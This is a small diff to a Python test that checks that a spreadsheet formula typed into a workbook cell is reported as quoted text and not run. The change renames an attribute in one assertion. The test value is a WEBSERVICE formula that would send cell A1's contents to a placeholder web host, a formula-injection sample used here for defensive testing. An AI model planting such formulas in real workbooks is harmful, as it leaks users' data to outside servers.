@@ -689,7 +689,7 @@ def test_problem_for_a_formula_quotes_it_and_does_not_run_it(
     book = opened(workbooks["medium_low"])
     answer(book, "factors.R1.rationale").value = '=WEBSERVICE("https://example.org/"&A1)'
     (problem,) = read(saved(book)).problems
-    assert problem.found == '=WEBSERVICE("https://example.org/"&A1)'
+    assert problem.typed == '=WEBSERVICE("https://example.org/"&A1)'
     assert FORM_HEADS[1] not in problem.message
 
 
